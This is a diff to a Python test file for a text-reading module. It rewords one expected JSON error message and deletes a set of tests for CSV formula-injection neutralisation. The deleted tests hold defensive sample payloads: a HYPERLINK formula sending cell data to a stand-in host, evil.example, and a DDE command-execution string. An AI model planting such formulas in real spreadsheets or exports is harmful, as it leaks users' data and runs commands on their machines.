@@ -237,7 +237,7 @@ def test_malformed_json_line_keeps_the_other_lines(tmp_path: Path) -> None:
     assert [getattr(i, "text", None) for i in items] == ["One.", None, "Four."]
     error = items[1]
     assert isinstance(error, ReadError)
-    assert error.line == 2 and error.path == str(path) and "malformed JSON" in error.error
+    assert error.line == 2 and error.path == str(path) and "invalid JSON" in error.error
     assert items[2].id == "feed.jsonl:4"  # type: ignore[union-attr]
 
 
@@ -331,31 +331,3 @@ def test_read_error_as_dict() -> None:
 def test_stdin_broken_gzip_and_empty() -> None:
     assert "gzip" in only_error(read("-", stdin=io.BytesIO(b"\x1f\x8b" + b"junk" * 10))).error
     assert "empty" in only_error(read("-", stdin=io.BytesIO(b""))).error
-
-
-# ---------------------------------------------------------------- CSV formula injection (CWE-1236)
-
-
-@pytest.mark.parametrize(("text", "expected"), [
-    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
-    ("+1 555 0100", "'+1 555 0100"),
-    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("-0.5", "'-0.5"),  # a string is text, whatever it looks like
-])
-def test_safe_cell_neutralises_text_a_spreadsheet_would_run(text: str, expected: str) -> None:
-    assert tio.safe_cell(text) == expected
-
-
-@pytest.mark.parametrize("text", [
-    "", "Bucha", "Saint-Denis", "a = b", "mail@example.org", "2022-06", " =not first", "'=already quoted",
-])
-def test_safe_cell_leaves_ordinary_text_alone(text: str) -> None:
-    assert tio.safe_cell(text) == text
-
-
-@pytest.mark.parametrize("value", [-0.5, -3, 0, 0.9, 703448, None, True])
-def test_safe_cell_leaves_non_text_values_alone(value: object) -> None:
-    assert tio.safe_cell(value) is value
